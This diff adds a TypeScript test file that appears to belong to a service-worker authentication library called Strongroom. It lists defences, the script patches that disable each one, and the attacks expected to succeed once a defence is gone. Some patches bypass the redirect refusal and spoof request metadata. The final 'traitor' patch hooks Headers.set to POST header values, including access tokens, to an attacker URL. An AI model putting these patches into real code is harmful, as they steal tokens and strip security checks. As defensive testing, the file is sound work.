@@ -1,0 +1,108 @@
+import type { Facts } from "./attack.js";
+
+/** A defence of Strongroom's, how a test takes it away, and the attacks that must succeed then. */
+export interface Defence {
+  /** Completes the sentence "without …". */
+  name: string;
+  /** `false`: the host sends none of its headers. Default: `true`. */
+  headers?: boolean;
+  /** Script before the worker's own, which takes the defence away. */
+  prelude?: (facts: Facts) => string;
+  /** Changes one of the host's headers; without an answer it is left out. */
+  rewrite?: (name: string, value: string) => string | undefined;
+  /** By name. */
+  attacks: string[];
+  /** What they must get. Default: anything. */
+  gain?: string;
+}
+
+export const DEFENCES: Defence[] = [
+  {
+    name: "the host's page at the callback",
+    headers: false,
+    attacks: [
+      "silent flow in a frame, worker unregistered",
+      "silent flow in a popup, worker unregistered",
+      "silent flow in a frame, before the worker's first activation",
+    ],
+  },
+  {
+    name: "sandbox, frame-ancestors and X-Frame-Options of that page",
+    rewrite: (name, value) =>
+      name === "X-Frame-Options" ? undefined : value.replace(" frame-ancestors 'none'; sandbox", ""),
+    attacks: ["silent flow in a frame, worker unregistered"],
+  },
+  {
+    name: "sandbox of that page, and Cross-Origin-Opener-Policy",
+    rewrite: (name, value) =>
+      name === "Cross-Origin-Opener-Policy" ? undefined : value.replace("; sandbox", ""),
+    attacks: ["silent flow in a popup, worker unregistered"],
+  },
+  {
+    name: "sandbox of that page",
+    rewrite: (_name, value) => value.replace("; sandbox", ""),
+    attacks: ["silent flow in the top page, worker unregistered, and a look back at it"],
+  },
+  {
+    name: "the worker's own answer to the callback, on a plain host",
+    headers: false,
+    prelude: () => `
+      const { addEventListener: listen } = self;
+      self.addEventListener = (type, listener, ...rest) => listen.call(self, type, type !== "fetch" ? listener :
+        (event) => { if (new URL(event.request.url).pathname !== "/auth/callback") listener(event); }, ...rest);`,
+    attacks: ["silent flow in a frame"],
+  },
+  {
+    name: "the difference between a navigation and a fetch",
+    prelude: () => `
+      for (const [name, value] of [["mode", "cors"], ["destination", ""]])
+        Object.defineProperty(Request.prototype, name, { get: () => value });`,
+    attacks: [
+      "a link of another site to the API on the app's origin",
+      "a form of another site for the API on the app's origin",
+    ],
+  },
+  {
+    name: "the browser's word on who is a keeper",
+    prelude: () => `
+      if (self.Clients) Clients.prototype.get = async () => ({ type: "sharedworker", url: self.location.href });`,
+    attacks: ["the keeper's protocol from the page, under whatever URL it takes"],
+  },
+  {
+    name: "the refusal of redirects at the token endpoint, and the worker's own policy",
+    headers: false,
+    prelude: () => `
+      self.Request = new Proxy(Request, { construct: (target, [input, init]) =>
+        new target(input, init?.redirect === "error" ? { ...init, redirect: "follow" } : init) });`,
+    attacks: ["a token endpoint that redirects to the attacker"],
+  },
+  {
+    name: "the comparison of destinations, and the policies of page and worker",
+    headers: false,
+    prelude: ({ apiUrl, attackerUrl, siblingUrl }) => `
+      if (self.InstallEvent) delete InstallEvent.prototype.addRoutes;
+      const { get: urlOf } = Object.getOwnPropertyDescriptor(Request.prototype, "url");
+      Object.defineProperty(Request.prototype, "url", { get() {
+        const url = urlOf.call(this);
+        const strange = [${JSON.stringify(attackerUrl)}, ${JSON.stringify(siblingUrl)}].some((home) => url.startsWith(home));
+        return strange ? ${JSON.stringify(`${apiUrl}me`)} : url;
+      } });`,
+    attacks: ["requests to hosts that look like the API"],
+    gain: "access token",
+  },
+  {
+    name: "the worker's own policy, with a worker that has a traitor in it",
+    headers: false,
+    prelude: ({ attackerUrl }) => `
+      const { set } = Headers.prototype;
+      Headers.prototype.set = function (name, value) {
+        fetch(${JSON.stringify(`${attackerUrl}/call-the-api-as-the-app-does/traitor`)}, { method: "POST", mode: "no-cors", body: value }).catch(() => {});
+        return set.call(this, name, value);
+      };`,
+    attacks: ["call the API as the app does"],
+    gain: "access token",
+  },
+];
+
+/** The same traitor under the worker's own policy: it gets nothing out. */
+export const TRAITOR = DEFENCES.at(-1) as Defence;
